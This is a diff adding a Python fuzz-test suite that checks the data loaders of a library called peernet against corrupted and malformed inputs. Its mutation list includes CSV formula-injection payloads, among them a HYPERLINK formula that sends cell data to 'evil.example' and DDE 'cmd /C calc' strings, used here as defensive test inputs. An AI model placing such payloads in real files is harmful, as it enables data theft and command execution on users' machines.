@@ -1,0 +1,575 @@
+"""Fuzzing every public loader: bad input loads with quality rows or raises DataError.
+
+Each public loader (``pn.load``, ``read_zoom``, ``read_teams``, ``read_meet``, ``read_slack``,
+``read_mbox``, ``read_signin``, ``read_events``, ``read_survey``) is fed
+
+- random bytes (alone and behind a real-looking start: a ZIP, UTF-16 or UTF-8 BOM, an mbox
+  ``From`` line, the fixture's own header),
+- its real fixtures (``tests/fixtures/<format>/``, found as they land) truncated, re-encoded
+  (UTF-16 with and without BOM, cp1252, mojibake), with a column dropped or added, a huge
+  field, formula cells (``=HYPERLINK(...)``, ``+``, ``-``, ``@``), mixed date formats, NULs,
+  shuffled, duplicated or blank lines, stray quotes, other line endings; JSON values of the
+  wrong type (Slack); cell-level edits of workbooks (sign-in sheets).
+
+Every outcome must be a PeerNetwork whose ``quality.counts`` satisfy
+``rows_read == rows_kept + rows_dropped`` for every source, or a :class:`peernet.DataError`
+naming the file; any other exception fails the test. Hypothesis runs derandomized (the same
+examples on every run) with a small budget and no shrinking: the whole file runs in about a
+minute. Set ``PEERNET_FUZZ_SCALE=10`` for a deeper local run and ``PEERNET_FUZZ_SHRINK=1`` to
+shrink a failure to a minimal case.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import random
+import re
+import shutil
+import tempfile
+import warnings
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from functools import cache
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+from hypothesis import HealthCheck, Phase, example, given, settings
+from hypothesis import strategies as st
+
+import peernet as pn
+from peernet.errors import DataError
+
+FIXTURES = Path(__file__).parent / "fixtures"
+SCALE = max(1, int(os.environ.get("PEERNET_FUZZ_SCALE", "1")))
+
+
+SHRINK = os.environ.get("PEERNET_FUZZ_SHRINK", "") == "1"
+
+
+def fuzz_settings(n: int):
+    """Derandomized, bounded; shrinking (slow with loaders at ~0.3 s a call) on request."""
+    phases = (Phase.explicit, Phase.generate, *((Phase.shrink,) if SHRINK else ()))
+    return settings(max_examples=n * SCALE, deadline=None, derandomize=True, database=None,
+                    phases=phases,
+                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
+                                           HealthCheck.filter_too_much])
+
+
+# ------------------------------------------------------------------------ the loaders
+MEMBERS_CSV = """member_id,name,email,org,sector,region,joined,supervisor_id,expertise
+ana,Ana Ruiz,ana@a.org,A,health,North,2024-01-01,,housing; policy
+ben,Ben Roy,ben@a.org,A,health,North,1/15/2024,ana,
+cai,Cai Lin,cai@b.org,B,education,South,2024-03-01,,funding
+dee,Dee Park,dee@b.org,B,education,South,2024-05-01 09:00,cai,
+"""
+EVENTS_CSV = """event_id,start,end,kind,title,host
+e1,2025-01-15 10:00,2025-01-15 11:00,meeting,Kickoff,ana
+e2,2025-04-15T10:00:00-07:00,2025-04-15 11:00,training,Data 101,cai
+"""
+INTERACTIONS_CSV = """timestamp,source,kind,target,event_id,weight,duration_min,topic
+2025-01-15 10:00,ana,attend,,e1,,60,
+2025-01-15 10:02,ben,attend,,e1,,55,
+2025-04-15 10:00,cai,attend,,e2,1,60,
+2025-02-01 09:00,ana,message,cai,,1.5,,housing
+2/2/2025 12:00 PM,cai,reply,ana,,,,housing
+2025-03-01T09:00:00Z,ben,help,dee,,2,,funding
+2025-03-05 09:00,dee,call,ana,,,30,
+"""
+PROBLEMS_CSV = """problem_id,raised_by,raised_at,topic,helpers,solved_at,status,outcome
+p1,dee,2025-02-01,housing,ana; ben,2025-03-01,solved,found a landlord
+p2,cai,2025-04-01,funding,,,open,
+"""
+
+
+@cache
+def canonical_folder() -> Path:
+    """A small canonical folder (pn.load's fixture), written once per session."""
+    folder = Path(tempfile.mkdtemp(prefix="peernet-fuzz-canonical-")) / "net"
+    folder.mkdir()
+    for name, text in [("members.csv", MEMBERS_CSV), ("events.csv", EVENTS_CSV),
+                       ("interactions.csv", INTERACTIONS_CSV), ("problems.csv", PROBLEMS_CSV)]:
+        (folder / name).write_text(text, encoding="utf-8")
+    return folder
+
+
+@cache
+def events_folder() -> Path:
+    """A folder of mixed exports for read_events: whatever fixtures have landed."""
+    folder = Path(tempfile.mkdtemp(prefix="peernet-fuzz-events-")) / "exports"
+    folder.mkdir()
+    for sub, pattern in [("zoom", "meeting_plain.csv"), ("teams", "attendanceList.csv"),
+                         ("meet", "*.csv"), ("mbox", "*.mbox")]:
+        for f in sorted((FIXTURES / sub).glob(pattern))[:1]:
+            shutil.copy(f, folder / f.name)
+    return folder
+
+
+def _files(sub: str, *patterns: str) -> tuple[Path, ...]:
+    found: list[Path] = []
+    for pattern in patterns:
+        found += sorted((FIXTURES / sub).glob(pattern))
+    return tuple(found)
+
+
+@dataclass(frozen=True)
+class Loader:
+    """A public loader, its keyword arguments and the real inputs to mutate.
+
+    ``sources`` are files (file loaders) or folders (folder loaders); ``targets(source)``
+    are the files inside a folder source that mutations may hit.
+    """
+
+    name: str
+    kwargs: dict = field(default_factory=dict)
+    folder: bool = False
+    sources: Callable[[], tuple[Path, ...]] = tuple
+    examples: int = 10  # random mutations run, of 10 drawn
+
+    @property
+    def func(self) -> Callable:
+        return getattr(pn, self.name)
+
+
+LOADERS = [
+    Loader("load", folder=True, sources=lambda: (canonical_folder(),)),
+    Loader("read_zoom", {"tz": "UTC"}, sources=lambda: _files("zoom", "*.csv")),
+    Loader("read_teams", {"tz": "UTC"}, sources=lambda: _files("teams", "*.csv")),
+    Loader("read_meet", {"tz": "UTC"}, sources=lambda: _files("meet", "*.csv")),
+    Loader("read_slack", folder=True,
+           sources=lambda: tuple(p for p in [FIXTURES / "slack" / "export"] if p.is_dir())),
+    Loader("read_mbox", sources=lambda: _files("mbox", "*.mbox", "*.txt")),
+    Loader("read_signin", {"tz": "UTC"}, sources=lambda: _files("signin", "*.xlsx")),
+    Loader("read_events", {"tz": "UTC"}, folder=True, sources=lambda: (events_folder(),),
+           examples=3),
+    Loader("read_survey", sources=lambda: _files("survey", "*.csv")),
+]
+IDS = [loader.name for loader in LOADERS]
+PUBLIC_LOADERS = {"load", "read_zoom", "read_teams", "read_meet", "read_slack", "read_mbox",
+                  "read_signin", "read_events", "read_survey"}
+
+
+def test_every_public_loader_is_fuzzed_and_guarded():
+    loaders = {n for n in pn.__all__ if n == "load" or n.startswith("read_")}
+    assert loaders == PUBLIC_LOADERS == set(IDS)
+    for name in [*PUBLIC_LOADERS, "validate"]:
+        func = getattr(pn, name)
+        assert getattr(func, "__peernet_guarded__", False), name
+        assert func.__name__ == name and func.__doc__ == func.__wrapped__.__doc__
+
+
+# ------------------------------------------------------------------------ the checks
+def check_accounting(net: pn.PeerNetwork) -> None:
+    """rows_read == rows_kept + rows_dropped, every count >= 0, for every source."""
+    c = net.quality.counts
+    assert list(c.columns) == ["source", "rows_read", "rows_kept", "rows_repaired",
+                               "rows_dropped"]
+    bad = c[(c["rows_read"] != c["rows_kept"] + c["rows_dropped"])
+            | (c[["rows_read", "rows_kept", "rows_repaired", "rows_dropped"]] < 0).any(axis=1)]
+    assert bad.empty, f"accounting identity fails:\n{bad.to_string()}"
+
+
+def run(loader: Loader, path: Path, names: set[str]):
+    """Call the loader; return the network or the DataError (anything else propagates)."""
+    try:
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            net = loader.func(path, **loader.kwargs)
+    except DataError as err:
+        text = str(err)
+        assert any(n and n in text for n in names), \
+            f"DataError does not name the file ({sorted(names)}): {text[:300]}"
+        return err
+    assert isinstance(net, pn.PeerNetwork)
+    check_accounting(net)
+    for table in net.tables().values():
+        assert isinstance(table.index, pd.RangeIndex)
+    return net
+
+
+def names_of(path: Path) -> set[str]:
+    names = {path.name, str(path)}
+    if path.is_dir():
+        names |= {p.name for p in path.rglob("*")}
+        names |= {str(p.relative_to(path)) for p in path.rglob("*")}
+    return names
+
+
+def stage(loader: Loader, source: Path, workdir: Path) -> tuple[Path, list[Path]]:
+    """Copy ``source`` into ``workdir``; return the copy and the files a mutation may hit."""
+    dest = workdir / source.name
+    if source.is_dir():
+        shutil.copytree(source, dest)
+        files = sorted(p for p in dest.rglob("*") if p.is_file())
+    else:
+        shutil.copy(source, dest)
+        files = [dest]
+    return dest, files
+
+
+# ------------------------------------------------------------------------ mutations
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "=1+1", "+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
+DATES = ["13/02/2025 10:00", "Feb 13, 2025", "2025-02-13T10:00:00Z", "45000", "yesterday",
+         "2025-02-30", "02/13/25 1:00 PM", "2025-13-01", "1e9", "0000-00-00 00:00:00",
+         "Thu, 13 Feb 2025 10:00:00 +0100", "2025-02-13 25:61", "13.02.2025", ""]
+DATE_LIKE = re.compile(r"\d{4}-\d{2}-\d{2}(?:[ T]\d{1,2}:\d{2}(?::\d{2})?)?|"
+                       r"\d{1,2}/\d{1,2}/\d{2,4}(?: \d{1,2}:\d{2}(?::\d{2})?(?: [AP]M)?)?|"
+                       r"\b\d{1,2} [A-Z][a-z]{2} \d{4}(?: \d{2}:\d{2}:\d{2})?")
+TEXT_MUTATIONS = ("truncate", "encoding", "drop_column", "extra_column", "huge_field",
+                  "formula", "mixed_dates", "nul", "lines", "quotes", "line_endings",
+                  "json_values")
+
+
+def _delimiter(line: str) -> str:
+    counts = {d: line.count(d) for d in ",;\t"}
+    best = max(counts, key=counts.get)
+    return best if counts[best] else ","
+
+
+def mutate_text(text: str, how: str, rng: random.Random) -> str:
+    lines = text.splitlines(keepends=True) or [""]
+    delim = _delimiter(lines[0])
+    body = [i for i in range(1, len(lines)) if lines[i].strip()]
+
+    def cells(i: int) -> list[str]:
+        return lines[i].rstrip("\r\n").split(delim)
+
+    def set_line(i: int, parts: list[str]) -> None:
+        ending = lines[i][len(lines[i].rstrip("\r\n")):]
+        lines[i] = delim.join(parts) + (ending or "\n")
+
+    if how == "drop_column":
+        k = rng.randrange(max(1, len(cells(0))))
+        for i in range(len(lines)):
+            parts = cells(i)
+            if len(parts) > k:
+                del parts[k]
+                set_line(i, parts)
+    elif how == "extra_column":
+        set_line(0, [*cells(0), rng.choice(["Extra", "", "Email", "Name"])])
+        for i in body:
+            if rng.random() < 0.7:
+                set_line(i, [*cells(i), rng.choice(["x", "", "=1+1", "a,b"])])
+    elif how == "huge_field":
+        i = rng.choice(body or [0])
+        parts = cells(i)
+        parts[rng.randrange(len(parts))] = rng.choice(
+            ["A" * 200_000, '"' + "B\n" * 5_000 + '"', "9" * 5_000])
+        set_line(i, parts)
+    elif how == "formula":
+        for _ in range(rng.randint(1, 3)):
+            i = rng.choice(body or [0])
+            parts = cells(i)
+            parts[rng.randrange(len(parts))] = rng.choice(FORMULAS)
+            set_line(i, parts)
+    elif how == "mixed_dates":
+        text = "".join(lines)
+        return DATE_LIKE.sub(lambda m: rng.choice(DATES) if rng.random() < 0.6 else m.group(0),
+                             text)
+    elif how == "nul":
+        text = "".join(lines)
+        for _ in range(rng.randint(1, 6)):
+            at = rng.randrange(len(text) + 1)
+            text = text[:at] + "\x00" * rng.randint(1, 3) + text[at:]
+        return text
+    elif how == "lines":
+        head, rest = lines[:1], lines[1:]
+        action = rng.choice(["shuffle", "duplicate", "delete", "blank", "header_again",
+                             "header_only"])
+        if action == "shuffle":
+            rng.shuffle(rest)
+        elif action == "duplicate" and rest:
+            rest += rng.sample(rest, k=min(len(rest), 3))
+        elif action == "delete" and rest:
+            del rest[rng.randrange(len(rest))]
+        elif action == "blank":
+            rest.insert(rng.randrange(len(rest) + 1), rng.choice(["\n", "   \n", ",,,,\n"]))
+        elif action == "header_again":
+            rest.insert(rng.randrange(len(rest) + 1), head[0])
+        else:
+            rest = []
+        lines = head + rest
+    elif how == "quotes":
+        text = "".join(lines)
+        at = rng.randrange(len(text) + 1)
+        return text[:at] + rng.choice(['"', '""', '"\n', "'"]) + text[at:]
+    elif how == "line_endings":
+        return "".join(lines).replace("\r\n", "\n").replace(
+            "\n", rng.choice(["\r", "\r\n", "\n\n", "\u2028"]))
+    elif how == "json_values":
+        return mutate_json(text, rng)
+    return "".join(lines)
+
+
+JUNK = [None, 0, -1, 1e308, True, "", " ", [], {}, "x" * 10_000, "=HYPERLINK(\"x\")",
+        "1709800000.000100", "not a ts", {"id": None}, [1, "a"]]
+
+
+def mutate_json(text: str, rng: random.Random) -> str:
+    try:
+        data = json.loads(text)
+    except (json.JSONDecodeError, RecursionError):
+        return text[: len(text) // 2]
+    slots: list[tuple[object, object]] = []
+
+    def walk(node):
+        if isinstance(node, dict):
+            for k, v in node.items():
+                slots.append((node, k))
+                walk(v)
+        elif isinstance(node, list):
+            for k, v in enumerate(node):
+                slots.append((node, k))
+                walk(v)
+
+    walk(data)
+    if not slots:
+        return json.dumps(rng.choice(JUNK))
+    for parent, key in rng.sample(slots, k=min(len(slots), rng.randint(1, 4))):
+        parent[key] = rng.choice(JUNK)
+    return json.dumps(data)
+
+
+def encode(text: str, rng: random.Random) -> bytes:
+    how = rng.choice(["utf-16", "utf-16-le", "cp1252", "mojibake", "utf-8-sig", "latin-1",
+                      "utf-32"])
+    if how == "mojibake":
+        return text.encode("utf-8").decode("cp1252", errors="replace").encode("utf-8")
+    return text.encode(how, errors="replace")
+
+
+def mutate_bytes(raw: bytes, how: str, fraction: float, rng: random.Random) -> bytes:
+    if how == "truncate":
+        return raw[: int(len(raw) * fraction)]
+    if raw.startswith(b"\xff\xfe") or raw.startswith(b"\xfe\xff"):
+        text = raw.decode("utf-16", errors="replace")
+    else:
+        text = raw.decode("utf-8-sig", errors="replace")
+    if how == "encoding":
+        return encode(text, rng)
+    return mutate_text(text, how, rng).encode("utf-8", errors="surrogatepass")
+
+
+def mutate_workbook(path: Path, how: str, fraction: float, rng: random.Random) -> None:
+    """Cell-level edits of an .xlsx file, as a person editing it in Excel would make."""
+    import datetime as dt
+
+    import openpyxl
+    from openpyxl.cell.cell import MergedCell
+
+    if how in ("truncate", "encoding", "nul", "quotes", "line_endings"):
+        raw = path.read_bytes()
+        if how == "truncate":
+            path.write_bytes(raw[: int(len(raw) * fraction)])
+        else:  # flip some bytes inside the zip
+            b = bytearray(raw)
+            for _ in range(rng.randint(1, 8)):
+                b[rng.randrange(len(b))] = rng.randrange(256)
+            path.write_bytes(bytes(b))
+        return
+    wb = openpyxl.load_workbook(path)
+    ws = rng.choice(wb.worksheets)
+    rows, cols = max(ws.max_row, 1), max(ws.max_column, 1)
+
+    def cell():
+        for _ in range(50):
+            found = ws.cell(row=rng.randint(1, rows), column=rng.randint(1, cols))
+            if not isinstance(found, MergedCell):
+                return found
+        return ws.cell(row=rows + 1, column=1)
+
+    if how == "drop_column":
+        ws.delete_cols(rng.randint(1, cols))
+    elif how == "extra_column":
+        at = rng.randint(1, cols + 1)
+        ws.insert_cols(at)
+        ws.cell(row=1, column=at, value=rng.choice(["Extra", "Name", None]))
+        ws.cell(row=2, column=at, value="x")
+    elif how == "huge_field":
+        cell().value = "A" * 32_000
+    elif how == "formula":
+        for _ in range(rng.randint(1, 3)):
+            cell().value = rng.choice(FORMULAS[:5])
+    elif how == "mixed_dates":
+        for _ in range(rng.randint(1, 4)):
+            cell().value = rng.choice([dt.datetime(2025, 2, 13, 10), dt.date(1900, 1, 1),
+                                       dt.time(25 % 24, 0), 45000, -1, *DATES[:6]])
+    elif how == "lines":
+        ws.delete_rows(rng.randint(1, rows), rng.randint(1, 3))
+    else:  # json_values: random typed cells
+        for _ in range(rng.randint(1, 5)):
+            cell().value = rng.choice([None, 0, -1.5, True, "", "  ", "yes", "✓", "x" * 300])
+    wb.save(path)
+
+
+# ------------------------------------------------------------------------ fuzz tests
+PREFIXES = [b"", b"PK\x03\x04", b"\xff\xfe", b"\xef\xbb\xbf", b"From a@b.org  Tue Mar  5 "
+            b"09:14:02 2024\n", b"[{", b"member_id,name\n", b"\x1f\x8b"]
+
+
+@pytest.mark.parametrize("loader", LOADERS, ids=IDS)
+@fuzz_settings(6)
+@given(prefix=st.sampled_from(PREFIXES), payload=st.binary(max_size=3000),
+       header=st.booleans())
+@example(prefix=b"", payload=b"", header=False)
+@example(prefix=b"", payload=b"\x00" * 64, header=True)
+def test_random_bytes(loader, prefix, payload, header):
+    sources = loader.sources()
+    with tempfile.TemporaryDirectory() as tmp:
+        workdir = Path(tmp)
+        if sources:
+            path, files = stage(loader, sources[0], workdir)
+            target = files[len(payload) % len(files)] if files else path / "x.csv"
+            head = target.read_bytes().split(b"\n", 1)[0] + b"\n" if header and \
+                target.exists() else b""
+        else:
+            path = target = workdir / ("net" if loader.folder else "input.csv")
+            if loader.folder:
+                path.mkdir()
+                target = path / "interactions.csv"
+            head = b""
+        target.write_bytes(head + prefix + payload)
+        run(loader, path, names_of(path))
+
+
+def mutate_and_run(loader: Loader, source: Path, how: str, fraction: float, seed: int):
+    rng = random.Random(seed)
+    with tempfile.TemporaryDirectory() as tmp:
+        path, files = stage(loader, source, Path(tmp))
+        target = rng.choice(files)
+        if target.suffix.lower() in (".xlsx", ".xlsm"):
+            mutate_workbook(target, how, fraction, rng)
+        else:
+            target.write_bytes(mutate_bytes(target.read_bytes(), how, fraction, rng))
+        try:
+            return run(loader, path, names_of(path))
+        except AssertionError as err:
+            raise AssertionError(f"{loader.name} on {source.name} / {target.name} with "
+                                 f"mutation {how!r} (fraction={fraction}, seed={seed}): "
+                                 f"{err}") from err
+
+
+def every_mutation():
+    for loader in LOADERS:
+        sources = loader.sources()
+        step = 3 if loader.name == "read_events" else 1  # a folder of exports: slow
+        cases = [(s, how) for s in sources for how in TEXT_MUTATIONS][::step]
+        for source, how in cases:
+            yield pytest.param(loader, source, how, id=f"{loader.name}-{source.name}-{how}")
+
+
+@pytest.mark.parametrize(("loader", "source", "how"), list(every_mutation()))
+def test_every_mutation_of_every_fixture(loader, source, how):
+    """Each mutation once on each fixture, deterministically."""
+    mutate_and_run(loader, source, how, 0.5, sum(map(ord, f"{source.name}{how}")))
+
+
+@pytest.mark.parametrize("loader", LOADERS, ids=IDS)
+@fuzz_settings(10)
+@given(data=st.data())
+def test_random_mutations(loader, data):
+    """Random mutations of random fixtures (derandomized: the same ones every run)."""
+    sources = loader.sources()
+    if not sources:
+        pytest.skip(f"no fixtures for {loader.name} yet")
+    if data.draw(st.integers(0, 9), label="skip") >= loader.examples:
+        return  # loader.examples of 10 run (read_events is slow)
+    source = data.draw(st.sampled_from(sources), label="source")
+    how = data.draw(st.sampled_from(TEXT_MUTATIONS), label="mutation")
+    fraction = data.draw(st.floats(0, 1), label="fraction")
+    seed = data.draw(st.integers(0, 2**16), label="seed")
+    mutate_and_run(loader, source, how, fraction, seed)
+
+
+# ------------------------------------------------------------------------ pn.load property
+CELLS = {
+    "timestamp": ["2025-03-04 10:00", "3/4/2025 9:05 AM", "2025-03-04T10:00:00+02:00",
+                  "13/02/2025 10:00", "not a date", "", "2025-02-30", "45000",
+                  "=HYPERLINK(\"x\")", "2025-03-04\x00"],
+    "source": ["ana", "ben", "zed", "", " ana ", "=1+1", "ANA", "ana\x00", "0012"],
+    "kind": ["message", "attend", "reply", "help", "", "Message", "bogus", " call "],
+    "target": ["ana", "cai", "", "nobody", "@SUM(1)"],
+    "event_id": ["e1", "e9", "", "E1"],
+    "weight": ["", "1", "-1", "0", "abc", "inf", "1e309", "2,5", "0.25"],
+}
+
+
+@fuzz_settings(25)
+@given(rows=st.lists(st.fixed_dictionaries({c: st.one_of(st.sampled_from(v),
+                                                          st.text(max_size=12))
+                                            for c, v in CELLS.items()}), max_size=25),
+       drop=st.sampled_from([None, "weight", "target", "event_id"]),
+       extra=st.booleans(), delimiter=st.sampled_from([",", ";", "\t"]))
+def test_load_accounts_for_every_row(rows, drop, extra, delimiter):
+    """rows in interactions.csv = rows kept + rows dropped, exactly, on generated tables."""
+    columns = [c for c in CELLS if c != drop] + (["Notes (free text)"] if extra else [])
+    with tempfile.TemporaryDirectory() as tmp:
+        folder = Path(tmp) / "net"
+        shutil.copytree(canonical_folder(), folder)
+        buf = io.StringIO()
+        writer = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")  # quotes \r, \n
+        writer.writerow(columns)
+        for r in rows:
+            writer.writerow([r.get(c, "=cmd") for c in columns])
+        (folder / "interactions.csv").write_text(buf.getvalue(), encoding="utf-8")
+        out = run(LOADERS[0], folder, names_of(folder))
+        if isinstance(out, DataError):
+            return
+        counts = out.quality.counts.set_index("source")
+        got = counts.loc["interactions.csv"]
+        assert got["rows_read"] == len(rows)
+        assert got["rows_kept"] == len(out.interactions)
+        assert got["rows_read"] == got["rows_kept"] + got["rows_dropped"]
+        issues = out.quality.issues
+        dropped = issues[(issues["source"] == "interactions.csv")
+                         & (issues["action"] == "dropped")]["row"].nunique()
+        assert dropped == got["rows_dropped"]
+        assert out.interactions["timestamp"].notna().all()
+        assert out.interactions["source"].notna().all()
+        assert np.isfinite(out.interactions.get("weight", pd.Series(dtype=float))
+                           .dropna()).all()
+
+
+# ------------------------------------------------------------------------ guard
+def test_guard_turns_unexpected_errors_into_data_error(tmp_path):
+    from peernet.io._guard import guard
+
+    @guard
+    def read_thing(path, *, tz="UTC"):
+        """Docstring kept."""
+        return {}["Email"]
+
+    with pytest.raises(DataError, match=r"^thing\.csv, column 'Email': cannot be read "
+                                        r"\(KeyError: 'Email'\)") as info:
+        read_thing(tmp_path / "thing.csv")
+    assert isinstance(info.value.__cause__, KeyError)
+    assert info.value.file == "thing.csv" and info.value.column == "Email"
+    with pytest.raises(TypeError, match="unexpected keyword argument 'bogus'"):
+        read_thing("thing.csv", bogus=1)
+    assert read_thing.__name__ == "read_thing" and read_thing.__doc__ == "Docstring kept."
+
+    @guard
+    def read_lines(path):
+        raise pd.errors.ParserError("Error tokenizing data. C error: Expected 3 fields in "
+                                    "line 7, saw 5")
+
+    with pytest.raises(DataError, match=r"^x\.csv, row 7: cannot be read \(ParserError"):
+        read_lines(Path("/somewhere/x.csv"))
+
+
+def test_argument_errors_are_not_disguised_as_data_errors():
+    with pytest.raises(ValueError, match="errors must be 'report' or 'raise'; got 'x'") as info:
+        pn.load(canonical_folder(), errors="x")
+    assert type(info.value) is ValueError
+    zoom = _files("zoom", "*.csv")
+    if zoom:
+        with pytest.raises(ValueError, match="tz must be an IANA time zone.*'Mars/Base'") as info:
+            pn.read_zoom(zoom[0], tz="Mars/Base")
+        assert type(info.value) is ValueError
+        with pytest.raises(TypeError, match="tz must be an IANA time zone name"):
+            pn.read_zoom(zoom[0], tz=5)
